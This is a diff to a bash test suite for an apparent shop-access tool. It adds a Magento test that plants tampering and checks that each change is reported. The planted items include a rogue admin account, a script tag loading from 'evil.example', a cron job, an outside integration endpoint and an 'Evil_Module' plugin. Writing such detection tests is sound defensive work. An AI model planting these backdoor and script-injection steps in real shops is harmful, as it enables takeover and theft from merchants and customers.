@@ -107,7 +107,7 @@ mg_shop() {
     grant=k3v9q2m7xao
     start "$suite" size=3g
     mg_set_up "$1"
-    for one in ${STAGEPASS_TEST_MAGENTO:-detects whole_life pages twice tells_marks refuses other_keys keeps_secrets ends_in_shop second_factor breaks read_only ends_by_itself cut_off}; do
+    for one in ${STAGEPASS_TEST_MAGENTO:-detects whole_life pages twice tells_marks refuses compares other_keys keeps_secrets ends_in_shop second_factor breaks read_only ends_by_itself cut_off}; do
         about="Magento $mg_version $one"
         "mg_$one"
     done
@@ -344,7 +344,7 @@ mg_whole_life() {
     mg close
     mg_timed close "$from"
     finishes
-    says absent=true user_absent=true rows_left=0 reread=direct already_absent=false foreign=false shut=true failsafe_absent=true result_kept=true by_server=false platform=magento role_matches=true keys_ended=0 cache_told=true
+    says absent=true user_absent=true rows_left=0 reread=direct already_absent=false foreign=false shut=true failsafe_absent=true result_kept=true by_server=false platform=magento role_matches=true keys_ended=0 cache_told=true difference=whole
     want 'it ended a session' grep -qE '^sessions_ended=[12]$' <<<"$out"
     want 'the old cookie opens nothing' mg_is_out
     want 'nor does the password' mg_cannot_enter
@@ -543,6 +543,50 @@ mg_refuses() {
     mg collected
 }
 
+# What lets somebody in, runs by itself, or says where money and mail go is compared with what was there before.
+mg_compares() {
+    local before config=$root/srv/shop/app/etc/config.php role
+    mg_config default 0 payment/checkmo/title Before
+    before=$(mg_state)
+    mg open
+    finishes
+    grant=k3v9q2m7xbo mg open account=sp-ben
+    finishes
+    mg close
+    finishes
+    says difference=whole
+    deny 'another grant is no finding, nor is this one' grep -q '^found=' <<<"$out"
+    grant=k3v9q2m7xbo mg close account=sp-ben
+    finishes
+    grant=k3v9q2m7xbo mg collected
+    mg collected
+    same 'everything is as before' "$before" "$(mg_state)"
+    mg open
+    cp -p "$config" "$tmp/config"
+    role=$(mg_role_of_merchant)
+    mg_somebody mallory mallory@example.org "$role"
+    mg_config default 0 payment/checkmo/title After
+    mg_config stores 1 multisafepay/general/live_api_key secret-of-the-shop
+    mg_config default 0 design/head/includes '<script src=//evil.example/x></script>'
+    mg_config default 0 crontab/default/jobs/evil/schedule/cron_expr '* * * * *'
+    mg_sql "insert into ${mg_prefix}integration (name, email, endpoint, status) values ('mine', 'm@example.org', 'https://evil.example/', 1)"
+    mg_sql "insert into ${mg_prefix}authorization_rule (role_id, resource_id, permission) values ($role, 'Evil_Module::all', 'allow')"
+    mg_sql "update ${mg_prefix}admin_user set email='other@example.org' where user_id=1"
+    sed -i "s/'Magento_Store' => 1,/'Magento_Store' => 1, 'Evil_Module' => 1,/" "$config"
+    mg close
+    finishes
+    says difference=whole user_absent=true new_administrator=mallory
+    says "found=shop new user of the shop's administration: mallory (Administrators)" "found=shop user of the shop's administration, changed (mail address): merchant (Administrators)" \
+        'found=shop setting of payments or mail, changed: payment/checkmo/title' 'found=shop new setting of payments or mail: multisafepay/general/live_api_key@stores_1' \
+        'found=shop new setting of the shop: design/head/includes' 'found=shop new job that the shop runs by itself: crontab/default/jobs/evil/schedule/cron_expr' \
+        'found=shop new key for programs that ask the shop: integration 1 (mine)' 'found=shop role of the shop, changed: Administrators' 'found=shop new plugin that is switched on: Evil_Module' found_total=9
+    deny 'what is set is not told' grep -q 'secret-of-the-shop\|evil.example' <<<"$out"
+    cp -p "$tmp/config" "$config"
+    mg_nobody mallory
+    mg_sql "delete from ${mg_prefix}integration; delete from ${mg_prefix}authorization_rule where resource_id='Evil_Module::all'; update ${mg_prefix}admin_user set email='merchant@example.org' where user_id=1; delete from ${mg_prefix}core_config_data where path in ('payment/checkmo/title', 'multisafepay/general/live_api_key', 'design/head/includes', 'crontab/default/jobs/evil/schedule/cron_expr')"
+    mg collected
+}
+
 # Keys of the shop's API, which open it without a session.
 mg_other_keys() {
     local token before
@@ -660,13 +704,14 @@ mg_breaks() {
     mg open
     finishes
     want 'it opens' mg_enters
-    # What ends it loads nothing of the shop.
-    sed -i '2i exit("not here");' "$root/srv/shop/app/bootstrap.php"
+    # What ends it loads nothing of the shop, and what hangs is not waited for.
+    sed -i '2i while (true) sleep(1);' "$root/srv/shop/app/bootstrap.php"
     mg check
     says present=true
     mg close
     finishes
-    says user_absent=true rows_left=0 absent=true cache_told=false
+    says user_absent=true rows_left=0 absent=true cache_told=false shut=true
+    want 'nothing of it runs any more' gone on pgrep -x php
     cp -p "$tmp/bootstrap.php" "$root/srv/shop/app/bootstrap.php"
     want 'it is out' mg_is_out
     mg collected
